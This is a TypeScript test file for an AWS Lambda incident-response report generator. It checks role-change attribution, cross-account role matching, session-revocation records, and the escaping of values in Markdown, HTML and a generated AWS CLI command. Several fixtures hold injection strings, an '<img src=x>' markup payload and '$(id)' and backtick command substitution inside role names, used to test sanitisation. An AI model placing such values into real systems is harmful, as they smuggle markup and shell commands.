    const dir = await snapshotCase(plainEntry({ role: roleArn(X), roleName: X }), {
      takenAt: '2026-11-21T12:00:00.000Z',
      files: [getRole(X, roleArn(X))],
    })
    const user = 'mal<img src=x>|`y`'
    await withTimeline(dir, [roleCall('e-1', at('11:00'), roleArn(X), { user, flagged: true })])
    const model = await buildReportModel(dir, { verify: false })
    const actor = `arn:aws:iam::${ACCOUNT}:user/${user}`
    const by = shown('UpdateFunctionConfiguration', '11:00', user)
    // Before: "current $LATEST role of billing-export", and not a word of the call.
    expect(model.roles.roles.map((r) => [r.name, r.why])).toEqual([
      [
        X,
        [
          `current $LATEST role of ${FN}, set by ${by} (flagged by ${ROLE_CHANGED}); the role before it is not known from this case`,
        ],
      ],
    ])
    // Flagged: said first.
    expect(model.summary.impact[0]).toBe(
      `The timeline shows ${actor} set the execution role of ${FN} to ${X} at 2026-11-21 11:00:00 UTC (UpdateFunctionConfiguration; flagged by ${ROLE_CHANGED}); the role it ran with before is not known from this case (an earlier snapshot of the function, or CloudTrail from before this timeline’s window, would tell). Its code runs with the permissions of ${X} now. Credentials stolen from it are sessions of the role it ran with when they were taken: of the role before it, when taken before that call.`,
    )
    expect(pointBack(model)).toMatchObject([
      {
        priority: 1,
        title: `Find the execution role ${FN} ran with before ${actor} set it to ${X}`,
        because: [by, `flagged by ${ROLE_CHANGED}`],
        command: null,
      },
    ])
    const { md, html } = await renderBoth(model)
    for (const text of [md, html]) expect(text).not.toContain('<img src=x>')
    expect(html).toContain('mal&lt;img src&#x3D;x&gt;|&#x60;y&#x60;')
    expect(md).toContain('mal&lt;img src=x&gt;\\|\\`y\\`')
    expectTablesKeepTheirShape(md)
  })

  it('keeps same-named roles of two accounts apart, and leaves out calls made in another account', async () => {
    const dir = await snapshotCase(plainEntry(), {
      takenAt: '2026-11-21T08:00:00.000Z',
      files: [getRole(ROLE, ROLE_ARN)],
    })
    const foreign = roleArn(ROLE, '999999999999')
    await withTimeline(dir, [
      // A same-named function of another account (an organisation trail), with its own role.
      roleCall('e-0', at('09:00'), roleArn('dev-role', '210987654321'), { account: '210987654321' }),
      // A record naming a same-named role of another account.
      roleCall('e-1', at('10:00'), foreign, { user: 'mallory' }),
    ])
    const model = await buildReportModel(dir, { verify: false })
    // Before: the foreign role was taken for the function's own (merged by name: no swap at all).
    expect(model.roles.roles.map((r) => [r.arn, r.current])).toEqual([
      [foreign, true],
      [ROLE_ARN, false],
    ])
    expect(pointBack(model)).toMatchObject([
      {
        title: `Point ${FN} back at its earlier execution role ${ROLE}`,
        command: `aws lambda update-function-configuration --function-name ${FN_ARN} --role ${ROLE_ARN} --region ${REGION}`,
      },
    ])
    expect(JSON.stringify(model.roles)).not.toContain('dev-role')
  })

  it('counts a session revocation for a role only when its account matches too', async () => {
    const dir = await snapshotCase(plainEntry(), { files: [getRole(ROLE, ROLE_ARN)] })
    const revoke = async (target: string) => {
      const handle = await CaseHandle.open(dir)
      try {
        for (const outcome of ['started', 'applied'] as const)
          await handle.journal.append({
            action: 'containment.sessions',
            target,
            params: { functionArn: FN_ARN, role: ROLE },
            outcome,
          })
      } finally {
        await handle.close()
      }
    }
    const revokedOf = async () =>
      (await buildReportModel(dir, { verify: false })).roles.roles.map((r) => [r.arn, r.sessionsRevoked])
    // A forged record naming a same-named role of another account.
    await revoke(`arn:aws:iam::999999999999:role/${ROLE}`)
    // Before: [[ROLE_ARN, true]]: matched by name alone, the function's role read as revoked.
    expect(await revokedOf()).toEqual([[ROLE_ARN, false]])
    const foreign = await buildReportModel(dir, { verify: false })
    expect(foreign.limits.items.map((l) => l.title)).toContain('Stolen role credentials were not revoked')
    // Its own account's, under a path and in other letter case (IAM role names are unique in an
    // account whatever their case, as roleKey has it): revoked.
    await revoke(`arn:aws:iam::${ACCOUNT}:role/ops/${ROLE.toUpperCase()}`)
    expect(await revokedOf()).toEqual([[ROLE_ARN, true]])
  })

  it('escapes role names, ARNs and the command in both formats', async () => {
    // A role path is the account owner's to choose: markup and shell syntax in it stay text.
    const hostileArn = `arn:aws:iam::${ACCOUNT}:role/x<img src=y>|$(id)\`id\`&amp;*_/${OLD_ROLE}`
    const dir = await snapshotCase(plainEntry({ role: hostileArn, roleName: OLD_ROLE }), {
      takenAt: '2026-11-20T10:00:00.000Z',
    })
    await addSnapshot(dir, plainEntry(), { takenAt: '2026-11-28T23:55:54.501Z' })
    const model = await buildReportModel(dir, { verify: false })
    const back = model.recommendations.items.find((r) => r.title.startsWith(`Point ${FN} back`))
    expect(back?.command).toBe(
      `aws lambda update-function-configuration --function-name ${FN_ARN} --role '${hostileArn}' --region ${REGION}`,
    )
    const { md, html } = await renderBoth(model)
    expect(html).not.toContain('<img src=y>')
    expect(html).toContain('x&lt;img src&#x3D;y&gt;|$(id)&#x60;id&#x60;&amp;amp;*_')
    expect(html).toContain(
      `<code>aws lambda update-function-configuration --function-name ${FN_ARN} --role &#x27;arn`,
    )
    // The command is a code span, in which Markdown is literal: what the .md file holds and what
    // it renders to are both the command. Before: escaped text, whose source pastes as
    // `--role 'arn:…x&lt;img src=y&gt;\|$(id)\`id\`&amp;amp;\*\_/…'`.
    const line = md.split('\n').find((l) => l.includes(`Point ${FN} back`))!
    expect(codeSpanAfter(line, ' Run ')).toBe(back!.command)
    expect(line).toContain(' Run ``aws lambda ')
    // Outside code spans, no markup of the value's.
    expect(withoutCodeSpans(md)).not.toContain('<img src=y>')
    expectNoBlankMarkdownCells(md)
    expectTablesKeepTheirShape(md)
  })
})

/** The text of the code span that starts right after `before` in a line, read as CommonMark reads it. */
function codeSpanAfter(line: string, before: string): string | null {
  const start = line.indexOf(before)
  if (start < 0) return null
  const rest = line.slice(start + before.length)
  const fence = /^`+/.exec(rest)?.[0]
  if (!fence) return null
  // The closing fence is the next run of exactly as many backticks.
  const close = new RegExp(`(?<!\`)${fence}(?!\`)`, 'g')
  close.lastIndex = fence.length
  const end = close.exec(rest)
  if (!end) return null
  const text = rest.slice(fence.length, end.index)
  return text.startsWith(' ') && text.endsWith(' ') && text.trim() !== '' ? text.slice(1, -1) : text
}

/** Markdown with its code spans (any fence) taken out. */
function withoutCodeSpans(md: string): string {
  return md.replace(/(`+)[^`][\s\S]*?(?<!`)\1(?!`)/g, '')
}

/** Every Markdown table row has as many cells as its header (a `|` in a value is escaped). */
function expectTablesKeepTheirShape(md: string): void {
  const lines = md.split('\n')
  const cells = (row: string) => row.replace(/\\\|/g, 'x').split('|').length
  for (let i = 0; i < lines.length - 1; i++) {
    if (!/^\|/.test(lines[i]!) || !/^\|[-:|\s]+\|$/.test(lines[i + 1]!)) continue
    for (let j = i + 2; j < lines.length && /^\|/.test(lines[j]!); j++)
      expect(cells(lines[j]!), lines[j]).toBe(cells(lines[i]!))
  }
}
